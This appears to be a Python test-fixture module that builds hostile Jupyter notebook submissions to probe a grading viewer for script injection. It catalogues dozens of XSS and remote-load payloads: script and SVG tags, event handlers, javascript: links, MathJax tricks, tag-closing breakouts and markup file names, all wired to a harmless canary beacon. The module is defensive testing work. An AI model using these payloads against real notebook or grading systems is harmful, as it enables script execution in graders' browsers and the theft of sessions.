"""What a student can write so that a browser runs it or asks another machine for it.

In each text `@JS@` stands for a script that leaves a mark, `@URL@` for an address that remembers
who asked; both carry the vector's name.
"""

from __future__ import annotations

import base64
import copy
import json
from typing import Any

Notebook = dict[str, Any]

MARKDOWN = {
    "script": "<script>@JS@</script>",
    "script-source": '<script src="@URL@"></script>',
    "img-onerror": '<img src="data:," onerror="@JS@">',
    "svg-onload": '<svg onload="@JS@"><circle r="9"/></svg>',
    "svg-script": "<svg><script>@JS@</script></svg>",
    "svg-use": '<svg><image href="@URL@"/></svg>',
    "mutation": '<math><mtext><table><mglyph><style><img src="data:," onerror="@JS@">',
    "noscript": '<noscript><p title="</noscript><img src=data:, onerror=@JS@>">',
    "srcdoc": '<iframe srcdoc="<script>@JS@</script>"></iframe>',
    "iframe": '<iframe src="@URL@"></iframe>',
    "object": '<object data="@URL@"></object><embed src="@URL@">',
    "refresh": '<meta http-equiv="refresh" content="0;url=@URL@">',
    "stylesheet": '<link rel="stylesheet" href="@URL@">',
    "style": "<style>@import '@URL@'; body { background: url('@URL@') }</style>",
    "style-attribute": "<p style=\"background: url('@URL@')\">text</p>",
    "base": '<base href="@URL@/">',
    "autofocus": '<input autofocus onfocus="@JS@">',
    "details": '<details open ontoggle="@JS@">text</details>',
    "media": '<video autoplay poster="@URL@"><source src="@URL@" onerror="@JS@"></video>',
    "remote-image": "![a picture](@URL@)",
    "remote-srcset": '<img srcset="@URL@ 1x" alt="">',
    "reference-image": "![a picture][there]\n\n[there]: @URL@",
    "js-link": "[press](javascript:@JS@)",
    "js-link-html": '<a href="jav&#x09;ascript:@JS@">press</a>',
    "js-reference": "[press][here]\n\n[here]: <javascript:@JS@>",
    "js-form": '<form action="javascript:@JS@"><button>press</button></form>',
    "data-link": "[press](data:text/html,<script>@JS@</script>)",
    "attachment": "![a picture](attachment:evil.svg)",
    "mathjax-href": r"$\href{javascript:@JS@}{x}$",
    "mathjax-html": r'$$\require{html}\style{background: url("@URL@")}{x}$$',
    "math-raw": '$<img src="data:," onerror="@JS@">$',
    "math-block": '\\begin{align}<img src="data:," onerror="@JS@">\\end{align}',
    "mathjax-config": '<script type="text/x-mathjax-config">@JS@</script>',
    "fence": "```\n</code></pre><script>@JS@</script>\n```\n<script>@JS@</script>",
    "long-fence": "`````````\n~~~~~~~~~\n<script>@JS@</script>",
    "indented": "- item\n\n      ```\n\n<script>@JS@</script>",
    "line-separators": "text\u2028<script>@JS@</script>\x0b\x0c\x85```\x85<script>@JS@</script>",
    "template": "{{ cycler.__init__.__globals__ }}{% for x in y %}<script>@JS@</script>",
    "widget-view": '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"m"}'
    "</script>",
}
# Each of these can swallow what follows it, so each is a submission's last words.
OPENERS = ("<!--", "<plaintext>", "<textarea>", "<style>", "<title>", "<xmp>", "<![CDATA[")
CLOSERS = {
    "close-script": "</script><script>@JS@</script>",
    "close-style": "</style><script>@JS@</script>",
    "close-title": "</title><script>@JS@</script>",
    "close-textarea": "</textarea></pre></div><script>@JS@</script>",
    "close-comment": "--><script>@JS@</script>",
    "close-attribute": "\"'><script>@JS@</script>",
}
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="@JS@"><script>@JS@</script></svg>'
OUTPUTS = {
    "text/html": "<script>@JS@</script><img src='@URL@'>",
    "image/svg+xml": SVG,
    "application/javascript": "@JS@",
    "text/markdown": "<script>@JS@</script>![](@URL@)",
    "text/latex": r"$\href{javascript:@JS@}{x}$<script>@JS@</script>",
    "image/png": '"><script>@JS@</script><img alt="',
    "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2},
    "text/plain": "</pre><script>@JS@</script>",
}
JS = "window.top.owned='@NAME@';new Image().src='@CANARY@/ran/@NAME@'"


def armed(text: str, name: str, canary: str) -> str:
    """A vector that leaves a mark under its name."""
    script = JS.replace("@NAME@", name).replace("@CANARY@", canary)
    return text.replace("@JS@", script).replace("@URL@", f"{canary}/asked/{name}")


def hostile(release: Notebook, canary: str) -> Notebook:
    """A submission with every vector: in answers, own cells, outputs, attachments and metadata."""
    notebook = copy.deepcopy(release)
    vectors = {**MARKDOWN, **CLOSERS}
    texts = [armed(text, f"answer-{name}", canary) for name, text in vectors.items()]
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = _outputs(canary)
            cell["execution_count"] = 1
    answer = _answer(notebook, "knn-w1")
    answer["source"] = "\n\n".join(texts)
    answer["attachments"] = _attachments("answer-attachment", canary)
    raises = armed(vectors["close-attribute"] + SVG, "exception", canary)
    _answer(notebook, "knn-q6")["source"] = (
        f"# {armed(vectors['close-textarea'], 'comment', canary)}\n"
        f"def best_k(accuracies):\n    raise ValueError({raises!r})\n"
    )
    own = [
        _cell("markdown", armed(text, f"own-{name}", canary), f"own-{name}", canary)
        for name, text in vectors.items()
    ]
    own += [_cell("raw", armed(vectors["script"], "raw", canary), "raw", canary)]
    own += [_cell("code", f"print({vectors['script']!r})", "own-code", canary)]
    own[-1]["outputs"] = _outputs(canary)
    notebook["cells"][3:3] = own
    return _with_metadata(notebook, canary)


def swallowing(release: Notebook, canary: str) -> Notebook:
    """A submission that opens what it does not close, ahead of a script, in a cell for each."""
    notebook = copy.deepcopy(release)
    script = armed(MARKDOWN["script"], "swallower", canary)
    answer = "\n\n".join(f"{opener} {script}" for opener in OPENERS)
    _answer(notebook, "knn-w1")["source"] = answer
    notebook["cells"] += [
        _cell("markdown", f"{opener}\n{script}", f"swallow-{number}", canary)
        for number, opener in enumerate(OPENERS)
    ]
    return notebook


def file_name() -> str:
    """A name of a file that is markup; a file's name has no slash."""
    return "<img src=data:, onerror=\"top.owned='file-name'\">.ipynb"


def _answer(notebook: Notebook, question: str) -> dict[str, Any]:
    return next(
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == question
    )


def _cell(kind: str, source: str, name: str, canary: str) -> dict[str, Any]:
    cell: dict[str, Any] = {"cell_type": kind, "id": name[:60], "source": source}
    tag = armed(CLOSERS["close-attribute"], f"tag-{name}", canary)
    cell["metadata"] = {"tags": [tag], "format": "text/html"}
    if kind == "code":
        cell |= {"outputs": [], "execution_count": None}
    elif kind == "markdown":
        cell["attachments"] = _attachments(name, canary)
    return cell


def _attachments(name: str, canary: str) -> dict[str, Any]:
    picture = base64.b64encode(armed(SVG, f"{name}-svg", canary).encode()).decode()
    broken = armed(CLOSERS["close-attribute"], f"{name}-type", canary)
    return {"evil.svg": {"image/svg+xml": picture, f"image/png{broken}": "AAAA"}}


def _outputs(canary: str) -> list[dict[str, Any]]:
    outputs: list[dict[str, Any]] = []
    for kind, data in OUTPUTS.items():
        name = f"output-{kind.replace('/', '-')}"
        text = json.loads(armed(json.dumps(data), name, canary).replace("\n", " "))
        outputs.append({"output_type": "display_data", "data": {kind: text}, "metadata": {}})
    script = armed(MARKDOWN["script"], "output-text", canary)
    outputs.append({"output_type": "stream", "name": "stdout", "text": f"</pre>{script}"})
    outputs.append(
        {"output_type": "error", "ename": script, "evalue": script, "traceback": [script]}
    )
    return outputs


def _with_metadata(notebook: Notebook, canary: str) -> Notebook:
    title = armed(CLOSERS["close-title"], "title", canary)
    quote = armed(CLOSERS["close-attribute"], "language", canary)
    state = {"m": {"model_name": "HTMLModel", "state": {"value": title}}}
    notebook["metadata"] |= {
        "title": title,
        "authors": [{"name": title}],
        "language_info": {"name": quote, "pygments_lexer": quote, "codemirror_mode": quote},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": state}},
    }
    return notebook
